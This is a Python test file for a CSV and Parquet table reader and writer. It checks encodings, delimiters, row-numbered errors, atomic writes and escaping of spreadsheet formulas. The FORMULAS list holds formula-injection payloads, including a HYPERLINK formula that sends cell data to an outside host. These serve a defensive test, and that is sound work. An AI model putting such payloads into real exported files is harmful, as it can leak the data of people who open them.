"""CSV tables: rows as written, errors that name file and row, atomic writing."""

from __future__ import annotations

import re
from pathlib import Path

import pyarrow as pa
import pytest
from pyarrow.parquet import write_table as write_parquet

from dataset_trees import write_table as write_rows
from deepmtdr.csv_tables import add_once, escape_formula, read_column_names, read_table, unescape_formula, write_table
from deepmtdr.errors import DataError


def test_byte_order_mark_spaces_empty_columns_and_blank_lines_are_ignored(tmp_path: Path) -> None:
    path = tmp_path / "t.csv"
    path.write_bytes(b"\xef\xbb\xbfname , grade,,\r\n a, 1,,\r\n,,,\r\nb,2,,\r\n")
    rows = list(read_table(path, ("name", "grade")))
    assert rows == [(f"{path}, row 2", {"name": "a", "grade": "1"}), (f"{path}, row 4", {"name": "b", "grade": "2"})]


def test_semicolons_separate_cells_if_the_header_has_no_comma(tmp_path: Path) -> None:
    write_rows(tmp_path / "t.csv", "left;right", "a,1.png;b.png")
    assert [row for _, row in read_table(tmp_path / "t.csv", ("right", "left"))] == [
        {"right": "b.png", "left": "a,1.png"}
    ]
    write_rows(tmp_path / "t.csv", "name,note", "a,b;c")
    assert [row for _, row in read_table(tmp_path / "t.csv", ("note",))] == [{"note": "b;c"}]


def test_columns_without_a_name_are_left_out(tmp_path: Path) -> None:
    write_rows(tmp_path / "t.csv", " name , grade,,", "a,1,,")
    assert read_column_names(tmp_path / "t.csv") == ["name", "grade"]


def test_missing_table_is_named(tmp_path: Path) -> None:
    with pytest.raises(DataError, match=r"labels\.csv: cannot be read"):
        list(read_table(tmp_path / "labels.csv", ("image",)))


@pytest.mark.parametrize("content", [b"", b"image\na\n", b"x,y\n"])
def test_missing_column_is_named(tmp_path: Path, content: bytes) -> None:
    (tmp_path / "t.csv").write_bytes(content)
    with pytest.raises(DataError, match=r"row 1: expected the columns image, level; .*level not found"):
        list(read_table(tmp_path / "t.csv", ("image", "level")))


def test_row_that_is_too_short_is_named(tmp_path: Path) -> None:
    write_rows(tmp_path / "t.csv", "image,level", "a,1", "b")
    with pytest.raises(DataError, match="row 3: expected at least 2 cells, found 1"):
        list(read_table(tmp_path / "t.csv", ("image", "level")))


def test_file_that_is_not_text_is_an_error(tmp_path: Path) -> None:
    (tmp_path / "t.csv").write_bytes(b"\xff\xfe\x00\x01")
    with pytest.raises(DataError, match="not a CSV table in UTF-8"):
        list(read_table(tmp_path / "t.csv", ("image",)))


@pytest.mark.parametrize("cell", ["a\x0cb", "a\x85b", "a\u2028b", "a\x1cb", 'a "b", c'])
def test_cell_with_an_unusual_character_does_not_break_the_row(tmp_path: Path, cell: str) -> None:
    write_table(tmp_path / "t.csv", ("name", "grade"), [(cell, 1), ("b", 2)])
    rows = list(read_table(tmp_path / "t.csv", ("name", "grade")))
    assert rows == [
        (f"{tmp_path}/t.csv, row 2", {"name": cell, "grade": "1"}),
        (f"{tmp_path}/t.csv, row 3", {"name": "b", "grade": "2"}),
    ]


def test_line_break_in_a_quoted_cell_is_kept_and_counts_as_one_row(tmp_path: Path) -> None:
    write_table(tmp_path / "t.csv", ("name", "note"), [("a", "first\nsecond"), ("b", "")])
    assert [(where[-5:], cells["note"]) for where, cells in read_table(tmp_path / "t.csv", ("note",))] == [
        ("row 2", "first\nsecond"),
        ("row 3", ""),
    ]


@pytest.mark.parametrize("end", ["\n", "\r\n", "\r"])
def test_all_line_ends_are_understood(tmp_path: Path, end: str) -> None:
    (tmp_path / "t.csv").write_bytes(end.join(["name", "a", "b", ""]).encode())
    assert [cells["name"] for _, cells in read_table(tmp_path / "t.csv", ("name",))] == ["a", "b"]


def test_name_that_is_not_utf_8_is_an_error_and_leaves_the_former_table(tmp_path: Path) -> None:
    write_table(tmp_path / "t.csv", ("name",), [("a",)])
    with pytest.raises(DataError, match=r"t\.csv, row 3: .*cannot be written as UTF-8; rename the file"):
        write_table(tmp_path / "t.csv", ("name",), [("a",), ("b\udcff",)])
    assert (tmp_path / "t.csv").read_text() == "name\na\n"
    assert [path.name for path in tmp_path.iterdir()] == ["t.csv"]


FORMULAS = [
    '=HYPERLINK("http://example.org/?"&A1,"eye")',
    "@SUM(A1)",
    "+1+1",
    "-1+1",
    " =1+1",
    "\t=1+1",
    '"=1+1',
    "\uff1d1+1",
    "'=1+1",
    "''=1+1",
    "x;=1+1;-2",
    "x\n=1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_is_a_formula_wherever_a_spreadsheet_splits_it_and_the_text_is_read_back(
    tmp_path: Path, text: str
) -> None:
    escaped = escape_formula(text)
    assert isinstance(escaped, str) and unescape_formula(escaped) == text
    assert not any(part.strip().strip('"').startswith(tuple("=+-@\uff1d")) for part in re.split("[;\t\n]", escaped))
    write_table(tmp_path / "t.csv", ("name", "note"), [("a", text)])
    assert [row["note"] for _, row in read_table(tmp_path / "t.csv", ("note",))] == [text.strip()]


def test_cells_of_blanks_take_linear_time() -> None:
    blanks = "\t" * 2_000_000  # quadratic time would be hours
    assert unescape_formula(f"'{blanks}x") == f"'{blanks}x"
    assert escape_formula(f"{blanks}x=") == f"{blanks}x="


def test_many_columns_take_linear_time(tmp_path: Path) -> None:
    columns = [f"c{number}" for number in range(60_000)]  # quadratic time would be a minute
    (tmp_path / "t.csv").write_text(",".join(columns) + "\n" + "," * 60_000 + "1\n")
    assert next(iter(read_table(tmp_path / "t.csv", columns)))[1]["c59999"] == ""


def test_the_first_of_two_columns_of_one_name_is_read(tmp_path: Path) -> None:
    (tmp_path / "t.csv").write_text("a,b,a\n1,2,3\n")
    assert [row for _, row in read_table(tmp_path / "t.csv", ("a", "b"))] == [{"a": "1", "b": "2"}]


DAMAGED_PARQUET = {
    "date out of range": lambda: pa.table({"name": pa.array([10**7], pa.date32())}),
    "text of other bytes": lambda: pa.table({"name": pa.array([b"\xff"]).view(pa.string())}),
    "too many equal cells": lambda: pa.table({"name": pa.nulls(10_000_001, pa.bool_())}),
}


@pytest.mark.parametrize("kind", DAMAGED_PARQUET)
def test_parquet_with_values_that_cannot_be_read_is_an_error(tmp_path: Path, kind: str) -> None:
    write_parquet(DAMAGED_PARQUET[kind](), tmp_path / "t.parquet")
    with pytest.raises(DataError, match=r"t\.parquet: not a Parquet table \("):
        read_column_names(tmp_path / "t.parquet")


PLAIN_CELLS = [-1, -1.5, "-1", "+1.5e-3", "-.5", "-inf", "a=b", "it's", "'quoted'", "a - b; c", "", None]


@pytest.mark.parametrize("cell", PLAIN_CELLS)
def test_numbers_and_plain_text_are_written_unchanged(cell: object) -> None:
    assert escape_formula(cell) == cell


@pytest.mark.parametrize("cell", ["NaN", "nan", "NA", "N/A", "<NA>", "null", "#N/A"])
def test_cell_without_a_value_is_empty_unless_it_is_a_name(tmp_path: Path, cell: str) -> None:
    write_table(tmp_path / "t.csv", ("name", "grade"), [(cell, cell)])
    assert [row for _, row in read_table(tmp_path / "t.csv", ("name", "grade"), names=("name",))] == [
        {"name": cell, "grade": ""}
    ]


def test_key_that_is_there_already_is_an_error() -> None:
    table = {("d", "a"): 1}
    add_once(table, ("d", "b"), 2, "t.csv, row 3")
    with pytest.raises(DataError, match=r"t\.csv, row 4: found d/a for the second time; expected one row"):
        add_once(table, ("d", "a"), 3, "t.csv, row 4")
    assert table == {("d", "a"): 1, ("d", "b"): 2}
